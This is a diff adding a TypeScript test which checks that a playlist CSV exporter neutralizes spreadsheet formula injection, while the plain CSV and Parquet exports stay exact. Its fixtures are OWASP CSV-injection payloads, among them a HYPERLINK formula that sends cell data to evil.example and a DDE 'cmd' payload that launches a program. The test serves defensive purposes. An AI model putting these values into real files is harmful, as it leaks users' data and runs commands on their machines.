@@ -54,3 +54,38 @@ describe('exportTable', () => {
     expect(text[3]!.startsWith(`"spotify:track:${FakeSpotify.trackIdAt(p, 2)}"`)).toBe(true);
   });
 });
+
+describe('Exportify CSVs and spreadsheet formulas', () => {
+  // Names as a playlist's curator could have typed them (OWASP CSV injection examples).
+  const names = {
+    title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    artist: `=cmd|' /C calc'!A0`,
+    album: '+1+1',
+    addedBy: '@SUM(1+1)*cmd|',
+  };
+  const more = ['-2+3', '\tTabbed', '\rReturned', 'a=b stays', "it's fine"];
+
+  it('neutralizes cells that a spreadsheet would run, and keeps other exports exact', async () => {
+    const s = await Store.open({ dataDir: ':memory:' });
+    try {
+      await s.run(`INSERT INTO tracks (track_id, title, artist_name, album_name) VALUES ('t0', $1, $2, $3)`, [names.title, names.artist, names.album]);
+      for (const [i, title] of more.entries()) await s.run(`INSERT INTO tracks (track_id, title, artist_name) VALUES ($1, $2, 'x')`, [`t${i + 1}`, title]);
+      await s.run(`INSERT INTO playlists (playlist_id, source, name) VALUES ('p1', 'local', '=evil')`);
+      for (let i = 0; i <= more.length; i++) await s.run(`INSERT INTO playlist_items (playlist_id, position, track_id, added_by) VALUES ('p1', $1, $2, $3)`, [i, `t${i}`, i === 0 ? names.addedBy : 'me']);
+      const out = join(dir, 'formulas.csv');
+      await exportExportify(s, { out, playlist: 'p1' });
+      const rows = await s.all<Record<string, string | null>>(`SELECT * FROM read_csv('${out}', all_varchar = true, header = true)`);
+      expect(rows[0]).toMatchObject({ 'Track Name': `'${names.title}`, 'Artist Name(s)': `'${names.artist}`, 'Album Name': `'${names.album}`, 'Added By': `'${names.addedBy}` });
+      expect(rows.slice(1).map((r) => r['Track Name'])).toEqual(["'-2+3", "'\tTabbed", "'\rReturned", 'a=b stays', "it's fine"]);
+      // The plain table exports are data, not spreadsheets: byte-exact.
+      for (const format of ['csv', 'parquet'] as const) {
+        const file = join(dir, `formulas-tracks.${format}`);
+        await exportTable(s, { name: 'tracks', format, out: file });
+        const reader = format === 'csv' ? `read_csv('${file}', all_varchar = true, header = true)` : `read_parquet('${file}')`;
+        expect((await s.all<{ title: string }>(`SELECT title FROM ${reader} ORDER BY track_id`)).map((r) => r.title)).toEqual([names.title, ...more]);
+      }
+    } finally {
+      s.close();
+    }
+  });
+});
